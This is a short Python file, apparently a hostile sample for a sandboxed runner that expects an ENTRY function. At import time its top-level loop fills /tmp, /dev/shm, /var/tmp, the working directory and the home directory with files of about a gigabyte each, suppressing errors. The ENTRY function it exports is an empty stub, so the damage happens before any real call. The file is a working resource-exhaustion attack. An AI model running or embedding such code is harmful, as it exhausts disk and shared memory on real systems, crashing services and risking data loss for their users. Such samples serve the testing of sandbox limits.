# Fills every place that it may write to.
import os

for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.environ["HOME"]):
    try:
        for number in range(1000):
            with open(os.path.join(folder, "fill%d" % number), "wb") as file:
                for _ in range(1024):
                    file.write(b"x" * (1 << 20))
    except OSError:
        pass

def ENTRY(*args, **kwargs):
    return None
